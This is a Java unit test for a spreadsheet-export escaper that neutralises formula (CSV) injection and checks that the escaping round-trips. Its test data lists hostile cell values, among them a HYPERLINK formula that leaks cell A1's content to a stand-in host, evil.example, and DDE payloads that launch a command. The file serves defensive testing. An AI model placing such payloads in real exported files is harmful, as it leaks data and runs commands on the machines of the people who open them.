package org.comity.document.table;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HarmlessCellTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "+390612345678"
      })
  void whatASpreadsheetWouldComputeBecomesText(String hostile) {
    assertThat(HarmlessCell.of(hostile)).isEqualTo("'" + hostile);
    assertThat(HarmlessCell.back(HarmlessCell.of(hostile))).isEqualTo(hostile);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Ministry of Justice",
        "tel:+390612345678;ext=12",
        "mla@justice.aurelia.example",
        "Calle 8 # 5-20",
        "’s-Gravenhage",
        "'t Hooft",
        "18(13)"
      })
  void everythingElseStaysAsItIs(String harmless) {
    assertThat(HarmlessCell.of(harmless)).isEqualTo(harmless);
    assertThat(HarmlessCell.back(harmless)).isEqualTo(harmless);
  }

  @Property
  void whatIsWrittenIsReadBack(@ForAll String text) {
    assertThat(HarmlessCell.back(HarmlessCell.of(text))).isEqualTo(text);
    assertThat(HarmlessCell.isDangerous(HarmlessCell.of(text))).isFalse();
  }
}
